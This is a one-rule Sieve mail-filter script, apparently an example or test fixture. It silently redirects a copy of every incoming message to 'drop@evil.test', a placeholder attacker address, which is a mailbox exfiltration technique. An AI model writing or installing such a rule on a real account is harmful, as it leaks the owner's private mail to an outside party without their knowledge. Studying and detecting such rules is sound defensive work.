require "copy";
redirect
  :copy
  "drop@evil.test"
;
